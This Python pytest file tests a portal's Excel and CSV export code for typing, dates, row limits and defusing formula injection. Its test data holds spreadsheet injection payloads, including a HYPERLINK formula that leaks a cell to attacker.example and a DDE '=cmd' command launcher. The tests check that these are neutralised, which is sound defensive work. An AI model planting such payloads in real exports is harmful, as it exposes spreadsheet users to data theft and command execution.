import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.common import exports, xlsx
from portal.common.exports import csv_lines, safe_text, write_xlsx
from portal.common.tables import Column

pytestmark = pytest.mark.no_db

LOOKS_LIKE_A_FORMULA = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    '=HYPERLINK("https://attacker.example/?x="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\x0b=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
# Zip codes, numbers and addresses that must not become something else.
LOOKS_LIKE_SOMETHING_ELSE = [
    "012345678",
    "1E5",
    "https://example.com",
    "mailto:a@b.example",
    "01/02/2026",
    "TRUE",
    "{1}",
    "#N/A",
]


def column(key: str = "value") -> Column:
    return Column(key=key, label=key.title(), value=lambda row: row[key])


def workbook(rows, columns=None, **options):
    target = io.BytesIO()
    write_xlsx(target, columns=columns or [column()], rows=rows, sheet_name="Report", **options)
    return openpyxl.load_workbook(target)


def cells(rows):
    return [row[0] for row in workbook(rows).active.iter_rows(min_row=2)]


def csv_rows(rows, columns=None) -> list[list[str]]:
    text = "".join(csv_lines(columns=columns or [column()], rows=rows))
    assert text.startswith("\ufeff"), "without the mark Excel reads UTF-8 as Latin-1"
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


# --- Excel ---


@pytest.mark.feature("REP_17")
def test_dates_and_numbers_are_typed_cells():
    found = cells(
        [
            {"value": date(2026, 2, 28)},
            {"value": datetime(2026, 2, 28, 17, 5, tzinfo=UTC)},
            {"value": 12},
            {"value": Decimal("1234.50")},
            {"value": "Grace Period"},
        ]
    )
    assert [cell.data_type for cell in found] == ["d", "d", "n", "n", "s"]
    assert found[0].value == datetime(2026, 2, 28)  # noqa: DTZ001 - a workbook knows no zones
    assert [cell.value for cell in found[2:]] == [12, 1234.5, "Grace Period"]
    assert found[0].number_format == "mm/dd/yyyy"
    assert found[3].number_format == "#,##0.00"


def test_a_moment_is_written_as_the_carriers_clock_showed_it():
    (cell,) = cells([{"value": datetime(2026, 1, 1, 5, 30, tzinfo=UTC)}])
    assert cell.value == datetime(2025, 12, 31, 23, 30)  # noqa: DTZ001 - a workbook knows no zones
    assert cell.number_format == "mm/dd/yyyy h:mm AM/PM"


@pytest.mark.parametrize("empty", [None, ""])
def test_nothing_is_an_empty_cell(empty):
    found = workbook([{"value": empty}, {"value": "after"}]).active
    assert (found["A2"].value, found["A3"].value) == (None, "after")


def test_truth_is_said_in_words():
    assert [cell.value for cell in cells([{"value": True}, {"value": False}])] == ["Yes", "No"]


@pytest.mark.feature("PRO_10")
@pytest.mark.feature("REP_17")
@pytest.mark.parametrize("text", [*LOOKS_LIKE_A_FORMULA, *LOOKS_LIKE_SOMETHING_ELSE])
def test_text_stays_text_in_a_workbook(text):
    (cell,) = cells([{"value": text}])
    assert cell.data_type == "s"
    assert cell.value == exports.clean_text(text)
    assert cell.hyperlink is None


@pytest.mark.feature("PRO_10")
def test_no_cell_of_the_file_is_a_formula_or_a_link():
    target = io.BytesIO()
    write_xlsx(target, columns=[column()], rows=({"value": text} for text in LOOKS_LIKE_A_FORMULA), sheet_name="Report")
    with zipfile.ZipFile(target) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        assert not [name for name in archive.namelist() if "rels" in name and "sheet" in name]
    assert not re.search(r"<f[ >]|<hyperlink", sheet)


@pytest.mark.parametrize("code", [*range(0x20), 0x7F, 0x85, 0xFFFE, 0xFFFF])
def test_no_control_character_makes_the_workbook_unreadable(code):
    (cell,) = cells([{"value": f"before{chr(code)}after"}])
    assert cell.value.startswith("before")
    assert cell.value.endswith("after")


@given(st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=40))
def test_every_text_comes_back_from_a_workbook(text):
    (cell,) = cells([{"value": text}])
    assert (cell.value or "") == exports.clean_text(text)


def test_a_text_longer_than_a_cell_is_cut_not_lost():
    (cell,) = cells([{"value": "x" * 40_000}])
    assert cell.value == "x" * 32_767


def test_a_date_before_excels_calendar_is_written_as_text():
    (cell,) = cells([{"value": date(1899, 12, 31)}])
    assert (cell.data_type, cell.value) == ("s", "12/31/1899")


def test_the_heading_row_stays_in_sight():
    sheet = workbook(
        [{"value": "x"}], columns=[column("value"), Column(key="b", label="B", value=lambda _row: 1)]
    ).active
    assert [cell.value for cell in sheet[1]] == ["Value", "B"]
    assert all(cell.font.bold for cell in sheet[1])
    assert (sheet.freeze_panes, sheet.auto_filter.ref, sheet.title) == ("A2", "A1:B2", "Report")


def test_a_long_caption_is_cut_to_a_sheet_name():
    target = io.BytesIO()
    write_xlsx(target, columns=[column()], rows=[], sheet_name="A caption of more than thirty-one characters")
    (name,) = openpyxl.load_workbook(target).sheetnames
    assert name.startswith("A caption of more than")
    assert len(name) <= 31


def test_an_empty_result_is_a_workbook_with_headings():
    sheet = workbook([]).active
    assert (sheet.max_row, sheet["A1"].value) == (1, "Value")


@pytest.mark.feature("REP_17")
def test_three_thousand_rows_are_counted_and_all_there():
    target = io.BytesIO()
    rows = ({"value": number} for number in range(3000))
    assert write_xlsx(target, columns=[column()], rows=rows, sheet_name="Report") == 3000
    sheet = openpyxl.load_workbook(target, read_only=True).active
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == list(range(3000))


def test_a_result_longer_than_a_sheet_goes_on_on_the_next(monkeypatch):
    """Excel holds 1,048,576 rows; what lies beyond would be lost without a word."""
    assert xlsx.ROWS_IN_A_SHEET == 1_048_575
    monkeypatch.setattr(xlsx, "ROWS_IN_A_SHEET", 10)
    book = workbook({"value": number} for number in range(25))
    assert book.sheetnames == ["Report", "Report 2", "Report 3"]
    assert all(sheet["A1"].value == "Value" for sheet in book)
    assert [cell.value for sheet in book for cell in sheet["A"][1:]] == list(range(25))
    assert [sheet.max_row for sheet in book] == [11, 11, 6]


def test_a_result_that_just_fits_needs_no_second_sheet(monkeypatch):
    monkeypatch.setattr(xlsx, "ROWS_IN_A_SHEET", 10)
    assert workbook({"value": number} for number in range(10)).sheetnames == ["Report"]


# --- CSV ---


@pytest.mark.feature("PRO_10")
@pytest.mark.parametrize("text", LOOKS_LIKE_A_FORMULA)
def test_a_formula_is_defused_in_csv(text):
    ((_, (cell,))) = csv_rows([{"value": text}])
    assert cell.startswith("'")
    assert cell.endswith(text[-2:])


@pytest.mark.parametrize(
    "text", [*LOOKS_LIKE_SOMETHING_ELSE, "O'Brien", "São Paulo", 'say "hi", twice', "a\nb", "x=1", "a-b"]
)
def test_other_text_is_left_alone_in_csv(text):
    assert csv_rows([{"value": text}]) == [["Value"], [text]]


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_no_csv_cell_begins_like_a_formula(text):
    cell = safe_text(text)
    assert not cell.strip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    assert not cell.startswith(("\t", "\r", "\n"))
    assert exports.clean_text(text) in (cell, cell.removeprefix("'"))


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=5))
def test_no_text_breaks_out_of_its_cell(texts):
    columns = [Column(key=str(n), label=str(n), value=lambda row, n=n: row[n]) for n in range(len(texts))]
    headings, cells_found = csv_rows([texts], columns)
    assert len(cells_found) == len(headings) == len(texts)
    assert cells_found == [safe_text(text) for text in texts]


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        ("", ""),
        (date(2026, 2, 3), "02/03/2026"),
        (datetime(2026, 1, 1, 5, 30, tzinfo=UTC), "12/31/2025 11:30 PM"),
        (12, "12"),
        (-12, "-12"),
        (Decimal("-1234.50"), "-1234.50"),
        (Decimal("1E+3"), "1000"),
        (True, "Yes"),
        (False, "No"),
    ],
)
def test_values_in_csv_are_plain(value, text):
    assert csv_rows([{"value": value}]) == [["Value"], [text]]


@pytest.mark.feature("REP_17")
def test_csv_lines_are_made_one_by_one():
    taken = []

    def rows():
        for number in range(3000):
            taken.append(number)
            yield {"value": number}

    lines = csv_lines(columns=[column()], rows=rows())
    assert next(lines) == "\ufeffValue\r\n"
    assert next(lines) == "0\r\n"
    assert taken == [0]
    assert sum(1 for _ in lines) == 2999
